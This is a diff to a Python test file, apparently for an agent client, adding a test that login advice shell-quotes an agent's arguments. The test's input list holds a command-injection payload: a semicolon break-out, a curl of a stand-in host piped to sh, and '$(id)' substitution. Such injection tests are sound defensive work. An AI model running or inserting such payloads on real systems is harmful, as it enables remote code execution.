@@ -10,6 +10,7 @@ import contextlib
 import functools
 import json
 import os
+import shlex
 import signal
 import subprocess
 import sys
@@ -510,6 +511,18 @@ def test_an_agent_that_needs_a_login_says_which_and_how() -> None:
     assert "Authentication required" in message
     assert "API key (a key from the dashboard): set RAW_AGENT_KEY in env=" in message
     assert "--login` in a terminal" in message
+
+
+def test_the_login_advice_quotes_the_agents_arguments_as_data_never_as_shell() -> None:
+    command = [sys.executable, str(AGENTS / "raw_agent.py")]
+    hostile = ["login;", "curl", "http://x.example/a|sh", "$(id)"]
+    env = {"RAW_AGENT_LOGIN": "1", "RAW_AGENT_LOGIN_ARGS": json.dumps(hostile)}
+    client = AgentClient("acp", command=command, env=env)
+    with client, pytest.raises(ConfigurationError) as error:
+        client.run("raw-agent", "hi")
+    message = str(error.value)
+    assert f"`{shlex.join([*command, *hostile])}`" in message
+    assert "login; curl" not in message and " $(id)" not in message
 
 
 def test_a_past_session_the_agent_cannot_load_is_refused_with_advice() -> None:
